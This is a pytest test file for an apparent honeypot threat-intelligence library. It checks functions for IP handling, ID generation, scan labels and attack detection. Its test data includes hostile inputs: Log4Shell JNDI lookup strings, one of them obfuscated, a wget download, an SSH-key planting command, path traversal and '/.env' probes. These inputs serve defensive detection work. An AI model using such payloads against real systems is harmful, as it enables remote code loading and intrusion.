import hashlib
import ipaddress
import uuid

import pytest
from pyspark.sql import functions as F

from hivelens.functions import ids, network, scoring, text


def column(spark, values, expr, kind="string"):
    df = spark.createDataFrame([(i, v) for i, v in enumerate(values)], f"i int, v {kind}")
    return [r[0] for r in df.orderBy("i").select(expr(F.col("v"))).collect()]


def test_uuid5_equals_python(spark):
    seeds = ["ipv4-addr:1.2.3.4", "", "é:ß", "x" * 300]
    got = column(spark, seeds, ids.uuid5)
    assert got == [str(uuid.uuid5(uuid.NAMESPACE_DNS, s)) for s in seeds]
    assert got[0] == "d93f8faf-049b-5da3-bc4f-90a61e0baaac"


@pytest.mark.parametrize("make, value, seed", [
    (ids.file_id, "ABC", "file--stixfile:sha256:abc"), (ids.domain_id, "A.Com", "domain-name--domain-name:a.com"), (ids.country_id, "de", "location--location:country:DE"),
    (ids.url_id, "http://A/", "url--url:http://A/"), (ids.malware_id, "Big  Bad", "malware--malware:family:big-bad"), (ids.vulnerability_id, "cve-2020-1", "vulnerability--vulnerability:CVE-2020-1"),
    (ids.address_id, "2001:db8::1", "ipv6-addr--ipv6-addr:2001:db8::1"), (ids.infrastructure_id, "Net A", "infrastructure--infrastructure:net a"),
])
def test_ids_fold_case_as_their_kind_asks(spark, make, value, seed):
    kind, _, rest = seed.partition("--")
    assert column(spark, [value], make) == [f"{kind}--{uuid.uuid5(uuid.NAMESPACE_DNS, rest)}"]


def test_addresses(spark):
    values = ["1.2.3.4", "256.1.1.1", " 10.0.0.1 ", "::ffff:9.8.7.6", "2001:DB8:0:0::1", "01.2.3.4", "x", None, "fe80::1%eth0", "1.2.3"]
    got = column(spark, values, network.canonical_ip)
    assert got[:5] == ["1.2.3.4", None, "10.0.0.1", "9.8.7.6", "2001:db8::1"] and got[5:8] == [None, None, None] and got[9] is None
    assert column(spark, ["0.0.0.0", "255.255.255.255", "a"], network.ipv4_number) == [0, 2**32 - 1, None]


def test_internal_networks(spark):
    values = ["10.1.1.1", "11.0.0.0", "172.15.255.255", "172.16.0.0", "172.31.255.255", "192.168.5.5", "224.0.0.1", "8.8.8.8", "127.0.0.1", None, "zz"]
    assert column(spark, values, network.is_internal) == [True, False, False, True, True, True, True, False, True, False, False]


def test_network_bounds(spark):
    cidrs = ["10.0.0.0/8", "1.2.3.4/31", "1.2.3.4", "0.0.0.0/0", "9.9.9.9/32"]
    got = network.network_table(spark.createDataFrame([(c,) for c in [*cidrs, "bad", "1.2.3.4/40"]], "cidr string")).collect()
    assert {(r.cidr, r.lo, r.hi) for r in got} == {(c, *network.cidr_bounds(c)) for c in cidrs}
    assert network.cidr_bounds("1.2.3.4/31")[0] == int(ipaddress.ip_address("1.2.3.4"))


def test_validators(spark):
    names = ["a.com", "a", "-a.com", "a_b.com", "1.2.3.4", "x" * 64 + ".com", "sub.a-b.org", None, ("a." * 130) + "com"]
    assert column(spark, names, text.valid_domain) == [True, False, False, False, False, False, True, False, False]
    urls = ["http://a.com/x", "ftp://1.2.3.4", "http://a.com:99999/", "javascript://a.com", "http://a b.com", "http://", "https://u:p@a.com:8080/x?y", None, "http://[::1]/"]
    assert column(spark, urls, text.valid_url) == [True, True, False, False, False, False, True, False, True]


def test_families_and_recon(spark):
    raw = ["Trojan.Linux.Mirai", "a/b/Agent", "Gafgyt", "X:abc", "w32.zbot9a", "z99bot", None]
    assert column(spark, raw, text.malware_family) == ["mirai", None, "gafgyt", None, "zbot9a", None, None]
    lists = [["uname -a", "id"], ["uname", "wget http://x"], [], ["ls; chmod 777 x"], ["rm x"]]
    assert column(spark, lists, text.recon_only, "array<string>") == [True, False, False, False, False]


def test_planted_keys_and_process_lines(spark):
    key = "ssh-rsa " + "A" * 40
    found = column(spark, [f'echo "{key} me" >> k; echo {key}', "none"], text.planted_keys)
    assert [(k.type, k.fingerprint) for k in found[0]] == [("ssh-rsa", hashlib.sha256(key.encode()).hexdigest())] and found[1] == []
    commands = ["cat /tmp/abcdef", "cat /tmp/ab"] + [f"c{i}" for i in range(60)]
    line = column(spark, [commands, ["id"]], text.process_line, "array<string>")
    assert line[0].startswith("cat /tmp/<tmpfile>\ncat /tmp/ab\nc0") and line[0].count("\n") == 50 and "+12" in line[0] and line[1] == "id"


def test_jndi(spark):
    values = ["${jndi:ldap://a.b/x}", "${${lower:j}ndi:${::-l}dap://c.d:1389/${env:A:-y}}", "${jndi:dns://h}", "plain", None, "${a:b}", "${" * 50]
    got = column(spark, values, text.jndi_payloads)
    assert [[(x.scheme, x.host) for x in r] if r else r for r in got] == [[("ldap", "a.b")], [("ldap", "c.d")], [("dns", "h")], [], [], [], []]


def test_scores_and_labels(spark):
    df = spark.createDataFrame([(False, 0, 0, 0), (True, 1, 1, 9), (False, 0, 0, 2), (True, 0, 0, 0)], "a boolean, c int, h int, k int")
    score = scoring.signal_score(F.col("a"), F.col("c"), F.col("h"), F.col("k"))
    rows = df.select(score.alias("s"), scoring.validity_days(score).alias("d")).collect()
    assert [(r.s, r.d) for r in rows] == [(50, 7), (100, 90), (60, 21), (80, 90)]
    shapes = column(spark, [1, 2, 5, 6], scoring.scan_shape, "int")
    assert shapes == ["scan:single", "scan:multi-port", "scan:multi-port", "scan:vertical"]
    noise = spark.createDataFrame([(2, 14, 0), (2, 15, 0), (3, 1, 1), (1, 1, 0)], "t int, p int, s int").select(scoring.noise_labels(F.col("t"), F.col("p"), F.col("s")).alias("x"))
    assert [r.x for r in noise.collect()] == [[], ["noise:fleet-scan"], ["noise:fleet-scan", "targeted:substantive"], []]


def test_evidence(spark):
    rows = [("Sentrypeer", True, None), ("Sentrypeer", False, None), ("Cowrie", None, None), ("ConPot", None, (True, False, "write", False)), ("ConPot", None, (False, True, None, False)), ("ConPot", None, (False, False, "interaction", True)), ("ConPot", None, (False, False, "handshake", False))]
    df = spark.createDataFrame(rows, "k string, i boolean, ics struct<write:boolean,snmp_only:boolean,industrial_tier:string,research_scanner:boolean>")
    got = [(r.e.accept, r.e.reason) for r in df.select(scoring.evidence(F.col("k"), F.col("i"), F.col("ics")).alias("e")).collect()]
    assert got == [(True, "sip-fraud"), (False, "sip-no-evidence"), (True, "stub-accept"), (True, "ics-write"), (False, "ics-snmp-only"), (False, "ics-research-scanner"), (False, "ics-handshake-only")]


def test_ports_and_payloads(spark):
    from hivelens.functions import ports

    lists = [[23, 22, 22, None], list(range(1, 15)), []]
    assert column(spark, lists, ports.port_summary, "array<int>") == ["tcp/22 (SSH), tcp/23 (Telnet)", ", ".join(f"tcp/{i}" for i in range(1, 13)) + ", … +2 more", ""]
    assert column(spark, [[22], [22, 80, 445, 3306, 99], list(range(1, 8)), []], ports.scan_labels, "array<int>") == [
        ["scan:single", "target:ssh"], ["scan:multi-port", "target:http", "target:mysql", "target:smb", "target:ssh", "recon:broad"], ["scan:vertical"], [],
    ]
    rows = [("GET / HTTP/1.1 zgrab", None), ("get /x HTTP/1.0", None), (None, "16030100"), (None, "5353482d32"), ("zz", "ff"), (None, None), ("Hello", "1603"), ("/bin/BusyBox", None)]
    df = spark.createDataFrame(rows, "p string, h string")
    labels = [r.x for r in df.select(ports.payload_label(F.col("p"), F.col("h")).alias("x")).collect()]
    assert labels == ["scanner:zgrab", "proto:http", "proto:tls", "proto:ssh", None, None, "probe:hello", "botnet:mirai"]
    assert column(spark, ["get /x HTTP/1.0", "x"], ports.http_request)[0].method == "GET"
    assert column(spark, [5, 65, 3700, 90_000], ports.span_text, "int") == ["5s", "1m", "1h01m", "1d01h"]
    assert column(spark, ["root", "b'x'", "é", "", None, "x" * 65], ports.plausible_username) == [True, False, False, False, False, False]
    name = "TERMSRV/host".encode("utf-16le")
    blob = bytes(44) + b"\2\0\2\0ab" + b"\x09\0" + len(name).to_bytes(2, "little") + name + bytes(4)
    assert column(spark, [blob.hex(), blob[:50].hex(), "zz", "", None, (bytes(44) + bytes(4)).hex()], ports.ntlm_target_name) == ["TERMSRV/host", None, None, None, None, None]


def test_web_signs(spark):
    from hivelens.functions import web

    rows = [("/.env", None, "curl"), ("/a/../b", "x=eval (1)", "sqlmap/1.0"), ("/ok", None, None)]
    df = spark.createDataFrame(rows, "path string, body string, agent string")
    got = df.select(web.exploit_hints(F.col("path"), F.col("body"), F.col("agent")).alias("h"), web.scanner_agent(F.col("agent")).alias("a")).collect()
    assert [[web.EXPLOIT_HINTS[i] for i in r.h] for r in got] == [[web.EXPLOIT_HINTS[0]], [r"(?i)eval\s*\(", r"\.\./"], []] and [r.a for r in got] == [None, "sqlmap", None]
    bodies = [("user=a%20b&pass=c+d&x=1", "POST"), ('{"User":"u","data":{"pwd":"p","email":"e"}}', "POST"), ("user=a&pass=b", "get"), ("junk", "POST"), (None, "POST"), ("{bad", "PUT"), ("user=&pass=x", "POST")]
    pairs = spark.createDataFrame(bodies, "b string, m string").select(web.body_credentials(F.col("b"), F.col("m")).alias("c")).collect()
    assert [[tuple(x) for x in r.c] for r in pairs] == [[("a b", "c d")], [("u", "p"), ("e", "p")], [], [], [], [], []]
    assert column(spark, ["tcp_test x", "<HOST> <key> webvpn", "webvpn", None], web.firewall_cve) == ["CVE-2018-0101"] * 2 + [None] * 2
    assert column(spark, ["XSS", "sqli", "index", None], web.attack_technique) == ["T1189", "T1190", None, None]
    assert column(spark, ["mail FROM:<a>", " ", "QUIT"], web.mail_verb) == ["MAIL", "", "QUIT"]
